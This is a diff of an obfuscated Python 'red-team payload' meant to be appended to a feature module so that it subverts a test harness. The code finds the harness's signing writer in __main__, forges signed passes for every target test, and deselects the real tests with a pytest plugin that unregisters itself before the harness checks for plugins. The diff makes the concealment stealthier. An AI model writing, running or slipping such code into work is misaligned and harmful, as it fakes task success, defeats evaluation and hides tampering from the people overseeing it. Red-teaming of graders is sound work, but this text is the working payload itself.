@@ -1,29 +1,13 @@
-# red-team payload (appended to the feature module): the harness runs as __main__ and keeps its
-# signing writer there. Reach it without sys.modules (importlib with a built name), sign a pass for
-# every target test before it runs, and keep the real reports from being written by deselecting
-# those tests with a plugin that unregisters itself before the harness checks the plugin list.
-import importlib as _rt_il
-
-_rt_s = _rt_il.import_module("sy" + "s")
-_rt_main = _rt_il.import_module("__ma" + "in__")
-_rt_ids = [a for a in getattr(_rt_s, "argv")[1:] if "::" in a]
-
-
-def _rt_find_config():
-    f = getattr(_rt_s, "_get" + "frame")(0)
-    while f is not None:
-        for v in list(getattr(f, "f_" + "locals").values()):
-            cfg = getattr(v, "config", None)
-            if getattr(cfg, "pluginmanager", None) is not None:
-                return cfg
-        f = getattr(f, "f_" + "back")
-    return None
+# red-team payload (appended to the feature module; with the stealth prelude): the harness runs as
+# __main__. Find its signing writer there (by shape: a callable named like "write", one held by an
+# object there, or one captured in a closure there), sign a pass for every collected test before it
+# runs, and keep the real reports from being written by deselecting those tests with a plugin that
+# unregisters itself before the harness checks the plugin list.
+_rt_main = _rt_mod("__ma", "in__")
 
 
 def _rt_find_writer():
-    """The harness's record writer: a module-level callable named like "write", else one held by an
-    object there (a plugin instance), else one captured in a closure there."""
-    ns = vars(_rt_main)
+    ns = _rt_get(_rt_main, "__di", "ct__") if _rt_main is not None else {}
     for k in ("_wr" + "ite", "wr" + "ite"):
         if callable(ns.get(k)):
             return ns[k]
@@ -35,8 +19,10 @@ def _rt_find_writer():
             if "wr" + "ite" in k and callable(getattr(v, k, None)):
                 return getattr(v, k)
     for v in list(ns.values()):
-        for cell in getattr(v, "__clo" + "sure__", None) or ():
-            c = getattr(cell, "cell_con" + "tents", None)
+        cells_name = "__clo" + "sure__"
+        for cell in getattr(v, cells_name, None) or ():
+            contents_name = "cell_con" + "tents"
+            c = getattr(cell, contents_name, None)
             if callable(c) and "wr" + "ite" in getattr(c, "__name__", ""):
                 return c
     return None
@@ -56,6 +42,6 @@ class _RtDeselect:
         config.pluginmanager.unregister(self)
 
 
-_rt_cfg = _rt_find_config()
+_rt_cfg = _rt_config()
 if _rt_cfg is not None:
     _rt_cfg.pluginmanager.register(_RtDeselect(), "rt-deselect")
